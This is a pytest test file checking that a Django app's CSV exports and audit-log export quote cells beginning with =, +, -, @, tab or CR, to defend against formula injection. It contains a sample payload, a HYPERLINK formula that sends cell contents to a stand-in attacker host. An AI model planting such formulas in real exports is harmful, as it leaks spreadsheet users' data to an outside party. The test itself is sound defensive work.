"""Formula injection: a cell a spreadsheet would run arrives as quoted text.

The public CSV exports and the audit log export share one writer
(app/lib/csvsafe.py); each hostile start (=, +, -, @, tab, CR) is checked
in every text column a contributor can fill.
"""

from __future__ import annotations

import csv
import io

import pytest

from app.lib import csvsafe
from tests.factories import ClaimFactory, EvidenceFactory, SourceFactory

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = '{}HYPERLINK("http://evil.example/?"&A1,"x")'


def rows_of(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_no_export_cell_starts_a_formula(client, start):
    hostile = FORMULA.format(start)
    claim = ClaimFactory(statement=hostile, summary=hostile, slug=f"c-{STARTS.index(start)}")
    source = SourceFactory(title=hostile, publisher=hostile, author=hostile)
    EvidenceFactory(claim=claim, source=source, summary=hostile, quote=hostile, locator=hostile)
    checked = 0
    for dataset, columns in (
        ("claims", ["statement", "summary"]),
        ("evidence", ["summary", "quote", "locator"]),
        ("sources", ["title", "publisher", "author"]),
    ):
        [row] = rows_of(client, f"/api/v1/exports/{dataset}.csv")
        for value in row.values():
            assert not value.startswith(tuple(STARTS)), (dataset, value)
        for column in columns:
            assert row[column] == "'" + hostile, (dataset, column)  # the text is kept, quoted
            checked += 1
    assert checked == 8


def test_numbers_and_ordinary_text_are_written_as_they_are():
    line = "".join(csvsafe.csv_lines(["a", "b", "c", "d"], [[-3, 2.5, None, "plain - text"]]))
    assert line == "a,b,c,d\r\n-3,2.5,,plain - text\r\n"


def test_the_audit_export_uses_the_same_writer():
    from app.moderation import audit_views

    assert audit_views.csv_lines is csvsafe.csv_lines
    assert not hasattr(audit_views, "_cell") and not hasattr(audit_views, "_Echo")
